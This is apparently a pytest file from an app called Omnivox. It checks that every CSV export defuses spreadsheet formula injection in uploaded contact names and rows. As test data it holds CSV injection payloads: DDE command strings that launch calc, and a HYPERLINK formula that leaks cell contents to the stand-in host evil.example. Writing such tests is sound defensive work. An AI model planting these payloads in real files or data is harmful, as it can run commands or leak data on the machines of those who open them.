"""No CSV Omnivox hands out starts a cell with a spreadsheet formula (CSV injection).

Names and rows someone uploaded are stored as given (they are data, and the contact's own
screens show them as text); every CSV that carries them defuses them on the way out. The last
test walks every GET route of the app, so a CSV export added later is held to the same rule.
"""
from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import select

from app.common.csvout import FORMULA_START, neutralise, stream_csv
from app.contacts.importer import run_contact_import
from app.contacts.models import Contact
from app.extensions import db
from tests.calls.factories import make_call

CMD = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
FORMULAS = (CMD, HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]+)?|\.[0-9]+)\Z")


def formula_cells(text: str) -> list[str]:
    """Every cell of a CSV a spreadsheet would run as a formula."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(cell)]


def _quoted(cells) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    return out.getvalue()


@pytest.mark.parametrize("value", FORMULAS)
def test_neutralise_defuses_every_formula_start(value):
    assert neutralise(value) == "'" + value
    assert formula_cells("".join(stream_csv(["h"], [[value]]))) == []


@pytest.mark.parametrize("value", ["+12125550101", "-12.5", "42", "Ada", "", "O'Neil"])
def test_plain_values_are_left_as_they_are(value):
    assert neutralise(value) == value


def _import(app, client, cid, text: str) -> int:
    response = client.post(f"/api/campaigns/{cid}/contacts/import",
                           data={"file": (io.BytesIO(text.encode()), "list.csv")}, content_type="multipart/form-data")
    assert response.status_code == 202, response.get_json()
    job_id = response.get_json()["id"]
    with app.app_context():
        run_contact_import(job_id)
    return job_id


def test_rejected_rows_come_back_defused_and_names_are_stored_as_given(app, login_as, campaigns, upload_dir):
    cid = campaigns.create()
    client = login_as("admin")
    text = ("phone,first_name,last_name\n"
            + _quoted([CMD, "Eve", "Formula"])                      # 2 not a number
            + _quoted(["2125550201", HYPERLINK, "Link"])            # 3 imported, name as written
            + _quoted(["2125550201", "@SUM(1+1)", CMD])             # 4 duplicate of line 3
            + _quoted(["2125550203", "\t=1+1", "-2+3+cmd|' /C calc'!A0", "extra"]))  # 5 broken line
    job_id = _import(app, client, cid, text)

    body = client.get(f"/api/imports/{job_id}/rejections.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body)))
    assert [row[0] for row in rows] == ["line", "2", "4", "5"]
    assert rows[1][3:] == ["'" + CMD, "Eve", "Formula"]
    assert rows[2][3:] == ["2125550201", "'@SUM(1+1)", "'" + CMD]
    assert rows[3][3:] == ["2125550203", "'\t=1+1", "'-2+3+cmd|' /C calc'!A0", "extra"]
    assert formula_cells(body) == []
    with app.app_context():
        name = db.session.scalar(select(Contact.first_name).where(Contact.import_job_id == job_id))
    assert name == HYPERLINK  # data, stored as given: only what is handed out as CSV is defused


# Every URL argument a GET route may take, filled from the seeded world below.
def _seed(app, users, campaigns, upload_dir, login_as):
    cid = campaigns.create()
    client = login_as("admin")
    job_id = _import(app, client, cid, "phone,first_name,last_name\n"
                     + _quoted(["2125550211", HYPERLINK, CMD])
                     + _quoted([CMD, HYPERLINK, "@SUM(1+1)"]))
    with app.app_context():
        contact = db.session.scalar(select(Contact).where(Contact.import_job_id == job_id))
        contact_id = contact.id
    call_id = make_call(app, cid, to_number="+12125550211", contact_id=contact_id, status="failed",
                        outcome="failed", error_message=CMD)
    agent = users.create("agent")
    return client, {"campaign_id": cid, "job_id": job_id, "contact_id": contact_id, "call_id": call_id,
                    "agent_id": agent.id, "user_id": agent.id}


def test_no_csv_route_of_the_app_starts_a_cell_with_a_formula(app, users, campaigns, upload_dir, login_as):
    client, ids = _seed(app, users, campaigns, upload_dir, login_as)
    checked = {}
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.rule.startswith(("/static", "/web-static", "/socket.io")):
            continue
        if not set(rule.arguments) <= set(ids):
            continue
        path = rule.rule
        for name in rule.arguments:
            path = re.sub(rf"<(?:[a-z]+:)?{name}>", str(ids[name]), path)
        response = client.get(path)
        if response.mimetype != "text/csv" and response.status_code == 422:
            # A report: it needs its campaign and range in the query.
            response = client.get(path, query_string={"campaign_id": ids["campaign_id"], "range": "last_7_days"})
        if response.mimetype != "text/csv":
            continue
        body = response.get_data(as_text=True)
        checked[rule.rule] = body
        assert response.status_code == 200, (path, body[:200])
        assert formula_cells(body) == [], (path, formula_cells(body))
    # The walk found the CSVs that exist today, and they held the seeded formulas (defused).
    assert {"/api/imports/<int:job_id>/rejections.csv", "/api/call-records/export",
            "/api/reports/agent-performance/export", "/api/reports/dispositions/export",
            "/api/reports/hourly/export", "/api/reports/daily/export"} <= set(checked)
    assert "'" + CMD in checked["/api/imports/<int:job_id>/rejections.csv"]
    # The export shows the contact as one "first last" cell: it starts with the defused first name.
    assert "'" + HYPERLINK.replace('"', '""') in checked["/api/call-records/export"]
